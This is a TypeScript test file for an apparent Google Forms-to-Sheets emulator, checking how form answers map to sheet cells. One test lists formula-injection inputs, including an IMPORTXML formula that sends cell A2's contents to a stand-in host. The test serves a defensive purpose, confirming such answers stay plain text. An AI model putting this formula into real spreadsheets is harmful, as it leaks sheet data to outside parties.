import {type CellAssumptions, cellsOf, columnsOf} from '../../../emulator/forms/cells';
import type {ItemDescription} from '../../../emulator/forms/make-item';
import type {Answer, Question} from '../../../emulator/forms/model';
import {makeForm} from './a-form';

const TYPED: CellAssumptions = {formAnswerCell: 'typed', fileUploadCell: 'open-link'};

function question(item: ItemDescription): Question {
  return makeForm({title: 'Q', ...item}).items[0] as Question;
}

function cells(item: ItemDescription, answer: Answer | undefined, assumed = TYPED) {
  return cellsOf(question(item), answer, assumed);
}

describe('how answers stand in the sheet', () => {
  it('a grid has one column a row, headed "Question [Row]"', () => {
    const grid = question({type: 'CHECKBOX_GRID', rows: ['July', 'August'], columns: ['1', '2']});
    expect(columnsOf(grid).map(column => column.heading)).toEqual(['Q [July]', 'Q [August]']);
    expect(cellsOf(grid, [['1', '2'], []], TYPED)).toEqual([{kind: 'typed', text: '1, 2'}, {kind: 'empty'}]);
    expect(cellsOf(grid, undefined, TYPED)).toEqual([{kind: 'empty'}, {kind: 'empty'}]);
  });

  it('ticked boxes are joined with a comma and a space', () => {
    const item: ItemDescription = {type: 'CHECKBOX', choices: ['a', 'b, c']};
    expect(cells(item, ['a', 'b, c'])).toEqual([{kind: 'typed', text: 'a, b, c'}]);
  });

  it('dates, times and scales are values, not texts', () => {
    expect(cells({type: 'DATE'}, '2026-07-01')).toEqual([{kind: 'date', text: '2026-07-01'}]);
    expect(cells({type: 'TIME'}, '10:30')).toEqual([{kind: 'time', text: '10:30'}]);
    expect(cells({type: 'SCALE'}, '3')).toEqual([{kind: 'number', number: 3}]);
  });

  it('35. an uploaded file is a link; several are joined (assumed, switchable)', () => {
    expect(cells({type: 'FILE_UPLOAD', maxFiles: 2}, ['A', 'B'])).toEqual([
      {kind: 'text', text: 'https://drive.google.com/open?id=A, https://drive.google.com/open?id=B'},
    ]);
    expect(cells({type: 'FILE_UPLOAD'}, ['A'], {...TYPED, fileUploadCell: 'file-link'})).toEqual([
      {kind: 'text', text: 'https://drive.google.com/file/d/A/view'},
    ]);
  });

  it.each([
    '=1+1',
    ' =1+1',
    "'=1+1",
    '\t=1+1',
    '+1+1',
    '+32 470 12 34 56',
    '-x',
    '=IMPORTXML("https://e.x/?"&A2,"//a")',
  ])('3. %j in a form answer never becomes a formula (assumed: Forms writes it as text)', text => {
    expect(cells({type: 'TEXT'}, text)).toEqual([{kind: 'text', text}]);
  });

  it.each(['007', '1/2', '1E5', 'TRUE', '10:30', '-5', '+32'])(
    '4. %j is read as if typed (assumed, switchable)',
    text => {
      expect(cells({type: 'TEXT'}, text)).toEqual([{kind: 'typed', text}]);
      expect(cells({type: 'TEXT'}, text, {...TYPED, formAnswerCell: 'text'})).toEqual([{kind: 'text', text}]);
    },
  );
});
